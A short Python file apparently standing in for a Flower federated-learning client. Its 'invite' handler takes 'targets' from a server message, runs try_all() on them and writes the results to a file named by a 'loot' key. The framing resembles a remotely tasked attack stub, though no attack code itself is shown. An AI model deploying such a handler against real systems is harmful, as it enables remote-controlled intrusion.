"""In the place of the ClientApp."""

import json
from pathlib import Path

from attempts import try_all
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query("invite")
def invite(message: Message, context: Context) -> Message:
    targets = json.loads(str(message.content["targets"]["json"]))
    Path(targets["loot"]).write_text(json.dumps(try_all(targets)))
    return Message(RecordDict({"verdict": ConfigRecord({"done": True})}), reply_to=message)
